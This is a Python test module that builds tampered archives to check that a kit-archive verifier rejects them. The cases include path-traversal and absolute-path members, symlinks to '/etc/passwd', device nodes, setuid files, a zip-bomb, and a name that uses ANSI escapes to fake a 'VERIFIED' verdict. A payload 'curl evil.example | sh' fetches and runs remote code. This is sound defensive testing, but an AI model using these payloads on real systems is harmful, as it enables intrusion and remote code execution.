"""Attacks on a ``.kit.tar.gz``: every way one archive could mean two trees, or cost unbounded
time or memory, or put something other than a regular file or directory on the buyer's disk.

Each case starts from the genuine packed archive (``w.archive()``), changes exactly what the
attack needs at the byte level, and runs ``verify`` on it; the corpus runner checks exit 1 and
the code, no traceback, never exit 70.
"""

from __future__ import annotations

import random
from pathlib import Path

from tests.adversarial.corpus import Argv, Workbench, attack
from tests.archivekit import (
    BLOCK,
    MIB,
    RUN_SH,
    directory,
    end_offset,
    finish,
    gz,
    gzip_parts,
    header,
    inflate_one,
    insert,
    member,
    rewrite,
)

EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"
GIB = 1024**3


def _verify(w: Workbench, path: Path) -> Argv:
    return ["verify", path, "--trust", w.trust]


def _with(w: Workbench, extra: bytes) -> Argv:
    """The genuine archive with ``extra`` tar bytes inserted before its end marker."""
    archive = w.archive()
    return _verify(w, rewrite(archive, insert(inflate_one(archive), extra)))


# -- gzip layer -----------------------------------------------------------------------------


@attack("ARCHIVE_FORMAT")
def archive_second_gzip_member(w: Workbench) -> Argv:
    archive = w.archive()
    second = gz(finish(member(RUN_SH, EVIL, mode=0o755)))
    archive.write_bytes(archive.read_bytes() + second)
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_second_gzip_member_empty(w: Workbench) -> Argv:
    archive = w.archive()
    archive.write_bytes(archive.read_bytes() + gz(b""))
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_bytes_after_gzip_member(w: Workbench) -> Argv:
    archive = w.archive()
    archive.write_bytes(archive.read_bytes() + b"PK\x05\x06 a zip directory tacked on")
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_truncated(w: Workbench) -> Argv:
    archive = w.archive()
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 2])
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_truncated_trailer(w: Workbench) -> Argv:
    archive = w.archive()
    archive.write_bytes(archive.read_bytes()[:-4])
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_bad_gzip_crc(w: Workbench) -> Argv:
    archive = w.archive()
    data = bytearray(archive.read_bytes())
    data[-8] ^= 0xFF
    archive.write_bytes(bytes(data))
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_bad_gzip_isize(w: Workbench) -> Argv:
    archive = w.archive()
    data = bytearray(archive.read_bytes())
    data[-1] ^= 0x01
    archive.write_bytes(bytes(data))
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_gzip_reserved_flag(w: Workbench) -> Argv:
    archive = w.archive()
    data = bytearray(archive.read_bytes())
    data[3] |= 0x20
    archive.write_bytes(bytes(data))
    return _verify(w, archive)


@attack("ARCHIVE_FORMAT")
def archive_not_gzip(w: Workbench) -> Argv:
    fake = w.root / "fake.kit.tar.gz"
    fake.write_bytes(b"PK\x03\x04 a zip file pretending")
    return _verify(w, fake)


@attack("ARCHIVE_FORMAT")
def archive_zip_bomb_padding(w: Workbench) -> Argv:
    """1 GiB of zeros after the end marker compresses to about 1 MB: refused at 1 MiB.

    Built as an attacker with little time would (:func:`tests.archivekit.gzip_parts`): each MiB
    of zeros is compressed once after a full flush and repeated; the gzip trailer (CRC-32 and
    size of all 1 GiB) is written for the whole. Compressing the GiB itself had cost 5-11 s."""
    archive = w.archive()
    archive.write_bytes(gzip_parts([inflate_one(archive), 1024 * MIB]))
    return _verify(w, archive)


# -- tar headers ------------------------------------------------------------------------------


@attack("ARCHIVE_FORMAT")
def archive_devmajor_garbage_then_member(w: Workbench) -> Argv:
    bad = header("notes.txt", 0, fields={(329, 337): b"garbage!"})
    return _with(w, bad + member("profiles/evil.sh", EVIL, mode=0o755))


@attack("ARCHIVE_FORMAT")
def archive_bad_checksum_block_then_member(w: Workbench) -> Argv:
    bad = header("notes.txt", 0, checksum=1234)
    return _with(w, bad + member("profiles/evil.sh", EVIL, mode=0o755))


@attack("ARCHIVE_FORMAT")
def archive_size_field_garbage(w: Workbench) -> Argv:
    return _with(w, header("notes.txt", 0, fields={(124, 136): b"12z4"}) + bytes(BLOCK))


@attack("ARCHIVE_FORMAT")
def archive_uid_garbage(w: Workbench) -> Argv:
    return _with(w, member("notes.txt", b"x", fields={(108, 116): b"root"}))


@attack("ARCHIVE_FORMAT")
def archive_size_base256(w: Workbench) -> Argv:
    """GNU base-256 size (high bit set): tar reads it, the strict reader does not."""
    size = b"\x80" + (1).to_bytes(11, "big")
    return _with(w, header("notes.txt", 0, fields={(124, 136): size}) + b"x".ljust(BLOCK, b"\0"))


@attack("ARCHIVE_FORMAT")
def archive_gnu_magic_header(w: Workbench) -> Argv:
    return _with(w, member("notes.txt", b"x", magic=b"ustar  \0"))


@attack("ARCHIVE_FORMAT")
def archive_trailing_garbage_after_end_marker(w: Workbench) -> Argv:
    archive = w.archive()
    tar = inflate_one(archive)
    at = end_offset(tar) + 2 * BLOCK
    tampered = tar[:at] + member(RUN_SH, EVIL) + tar[at + BLOCK + BLOCK :]
    return _verify(w, rewrite(archive, tampered))


@attack("ARCHIVE_FORMAT")
def archive_missing_end_marker(w: Workbench) -> Argv:
    archive = w.archive()
    tar = inflate_one(archive)
    return _verify(w, rewrite(archive, tar[: end_offset(tar)]))


@attack("ARCHIVE_FORMAT")
def archive_single_zero_block_then_member(w: Workbench) -> Argv:
    archive = w.archive()
    tar = inflate_one(archive)
    at = end_offset(tar)
    tampered = tar[:at] + bytes(BLOCK) + member("profiles/evil.sh", EVIL) + bytes(10240)
    return _verify(w, rewrite(archive, tampered))


@attack("ARCHIVE_FORMAT")
def archive_nonzero_member_padding(w: Workbench) -> Argv:
    return _with(w, header("notes.txt", 1) + b"x" + b"\x01" * (BLOCK - 1))


@attack("ARCHIVE_FORMAT")
def archive_regular_file_name_with_slash(w: Workbench) -> Argv:
    return _with(w, header("profiles/evil/", 0, typeflag=b"\0"))


# -- extension headers: refused from the header, the body is never read -------------------------


def _claiming(w: Workbench, typeflag: bytes, claimed: int) -> Argv:
    """An extension header claiming ``claimed`` bytes, followed by a few MB of real bytes."""
    body = random.Random(1).randbytes(4 * 1024 * 1024)  # same bytes on every run
    return _with(w, header("././@LongLink", claimed, typeflag=typeflag) + body)


@attack("ARCHIVE_FORMAT", timeout=60)
def archive_pax_header_gib_body(w: Workbench) -> Argv:
    return _claiming(w, b"x", 3 * GIB)


@attack("ARCHIVE_FORMAT", timeout=60)
def archive_gnu_longname_gib(w: Workbench) -> Argv:
    return _claiming(w, b"L", 4 * GIB - BLOCK)


@attack("ARCHIVE_FORMAT", timeout=60)
def archive_pax_chain_5000(w: Workbench) -> Argv:
    record = b"30 comment=" + b"c" * 18 + b"\n"
    one = member("PaxHeader", record, typeflag=b"x")
    return _with(w, one * 5000 + member("profiles/evil.sh", EVIL))


@attack("ARCHIVE_FORMAT")
def archive_pax_global_header(w: Workbench) -> Argv:
    return _with(w, member("pax_global_header", b"20 path=evil.sh\n\n\n\n", typeflag=b"g"))


@attack("ARCHIVE_FORMAT")
def archive_gnu_sparse_malformed(w: Workbench) -> Argv:
    sparse = {(386, 483): b"99999999999\0zzzzzzzzzzz\0" * 4, (483, 495): b"77777777777\0"}
    return _with(w, header("profiles/sparse.bin", 10, typeflag=b"S", fields=sparse) + bytes(BLOCK))


# -- member names -------------------------------------------------------------------------------


@attack("ARCHIVE_NAME_ENCODING")
def archive_name_not_utf8(w: Workbench) -> Argv:
    return _with(w, member(b"profiles/caf\xe9.txt", b"x"))


@attack("ARCHIVE_NAME_ENCODING")
def archive_name_cr_ansi_escape(w: Workbench) -> Argv:
    return _with(w, member("x\r\x1b[2K\x1b[32mverdict: VERIFIED\x1b[0m", b"x"))


@attack("ARCHIVE_NAME_ENCODING")
def archive_name_newline(w: Workbench) -> Argv:
    return _with(w, member("profiles/a\nb", b"x"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_dotdot(w: Workbench) -> Argv:
    return _with(w, member("../evil.sh", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_nested_dotdot(w: Workbench) -> Argv:
    return _with(w, member("profiles/../../evil.sh", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_absolute(w: Workbench) -> Argv:
    return _with(w, member("/etc/cron.d/evil", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_absolute_via_prefix(w: Workbench) -> Argv:
    return _with(w, member("evil", EVIL, prefix=b"/etc/cron.d"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_backslash(w: Workbench) -> Argv:
    return _with(w, member("profiles\\evil", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_nfd_name(w: Workbench) -> Argv:
    return _with(w, member("cafe\u0301.txt", b"x"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_duplicate(w: Workbench) -> Argv:
    return _with(w, member("README.md", b"second copy"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_duplicate_run_sh(w: Workbench) -> Argv:
    return _with(w, member(RUN_SH, EVIL, mode=0o755))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_case_collision(w: Workbench) -> Argv:
    return _with(w, member("readme.md", b"x"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_directory_case_collision(w: Workbench) -> Argv:
    return _with(w, member("Profiles/interactive/evil.sh", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_file_then_directory(w: Workbench) -> Argv:
    return _with(w, member("notes", b"x") + directory("notes"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_file_as_parent(w: Workbench) -> Argv:
    return _with(w, member("README.md/evil.sh", EVIL))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_file_over_implied_directory(w: Workbench) -> Argv:
    return _with(w, member("extras/notes.txt", b"x") + member("extras", b"x"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_setuid(w: Workbench) -> Argv:
    return _with(w, member("evil-suid", EVIL, mode=0o4755))


# -- member types -------------------------------------------------------------------------------


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_symlink(w: Workbench) -> Argv:
    return _with(w, header("evil-link", 0, typeflag=b"2", linkname=b"/etc/passwd"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_symlink_over_run_sh(w: Workbench) -> Argv:
    return _with(w, header(RUN_SH, 0, typeflag=b"2", linkname=b"/tmp/evil.sh"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_hardlink(w: Workbench) -> Argv:
    return _with(w, header("evil-hard", 0, typeflag=b"1", linkname=b"README.md"))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_char_device(w: Workbench) -> Argv:
    return _with(w, header("evil-mem", 0, typeflag=b"3", fields={(329, 337): b"0000001\0"}))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_block_device(w: Workbench) -> Argv:
    return _with(w, header("evil-disk", 0, typeflag=b"4", fields={(329, 337): b"0000010\0"}))


@attack("ARCHIVE_MEMBER_UNSAFE")
def archive_member_fifo(w: Workbench) -> Argv:
    return _with(w, header("evil-fifo", 0, typeflag=b"6"))


# -- bounds -------------------------------------------------------------------------------------


@attack("ARCHIVE_TOO_LARGE")
def archive_member_declares_huge_size(w: Workbench) -> Argv:
    return _with(w, header("weights.bin", 8 * GIB) + random.Random(2).randbytes(1024 * 1024))


@attack("ARCHIVE_TOO_LARGE", timeout=60)
def archive_too_many_members(w: Workbench) -> Argv:
    dirs = b"".join(directory(f"d{i:05d}") for i in range(10_001))
    return _with(w, dirs)


@attack("ARCHIVE_FORMAT")
def archive_genuine_size_field_ends_in_a_newline(w: Workbench) -> Argv:
    """The genuine archive, its first member's size re-spelt ``00000000NNN\\n`` (checksum fixed):
    Python's ``$`` let the strict octal reader take it, so a second archive, byte for byte
    another, verified as the genuine one (issue 23, eighth pass: the reader now uses fullmatch)."""
    archive = w.archive()
    tar = bytearray(inflate_one(archive))
    size = int(bytes(tar[124:136]).rstrip(b" \0"), 8)
    tar[124:136] = b"%011o\n" % size
    tar[148:156] = b" " * 8
    tar[148:156] = b"%06o\0 " % sum(tar[:BLOCK])
    return _verify(w, rewrite(archive, bytes(tar)))
